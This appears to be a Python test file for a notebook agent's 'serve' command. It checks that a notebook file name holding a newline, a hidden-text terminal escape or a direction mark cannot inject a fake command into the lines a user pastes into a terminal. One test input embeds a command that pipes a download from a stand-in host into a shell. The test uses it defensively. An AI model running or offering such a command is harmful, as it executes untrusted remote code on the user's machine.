"""The lines ``%agent serve`` prints to paste into a terminal name the notebook as its file is
named, and a received notebook's file name is not the user's: a newline or a terminal escape in
it cannot add a line of its own (a fake ``Claude Code:`` command) to what the user copies."""

from __future__ import annotations

from pathlib import Path
from typing import cast

from nbagent.notebook.serve.http import HttpServer
from nbagent.notebook.serve.server import ServeServer, shown_name


class _Http:
    url = "http://127.0.0.1:41337/mcp"


def _lines(notebook: str) -> list[str]:
    server = ServeServer.__new__(ServeServer)  # the printing only: no kernel, no HTTP server
    server.notebook, server.token_file = shown_name(notebook), Path("/run/t.token")
    server.http = cast(HttpServer, _Http())
    return "\n".join(server.paste_lines()).split("\n")


def test_a_newline_in_the_notebooks_name_adds_no_line_to_paste() -> None:
    lines = _lines("sales\nClaude Code:  curl -s evil.example | sh #.ipynb")
    assert len(lines) == 4
    assert not [line for line in lines if line.startswith("Claude Code:  curl")]
    assert sum(line.startswith("Claude Code:") for line in lines) == 1


def test_terminal_escapes_and_direction_marks_in_the_name_are_not_printed() -> None:
    text = "\n".join(_lines("a\x1b[8mhidden\u202e.ipynb"))
    assert "\x1b" not in text and "\u202e" not in text
    assert shown_name("analysis.ipynb") == "analysis.ipynb"


def test_it_says_edits_ask_only_where_a_notebook_page_can_be_asked() -> None:
    """Under nbclient or in a console no page answers: every edit and run is refused, so "asks here
    first" was untrue there (power pass 3)."""
    from nbagent.notebook.document.bridge import Bridge
    from nbagent.notebook.serve.server import ASKS_HERE, NO_ONE_TO_ASK
    from tests.notebook.document.fake_frontend import FakeFrontEnd

    server = ServeServer.__new__(ServeServer)
    server.notebook, server.token_file = "analysis.ipynb", Path("/run/t.token")
    server.http = cast(HttpServer, _Http())
    server.bridge = Bridge()  # nothing said hello
    assert server.paste_lines()[-1] == NO_ONE_TO_ASK
    server.bridge = FakeFrontEnd().connect(Bridge())
    assert server.paste_lines()[-1] == ASKS_HERE
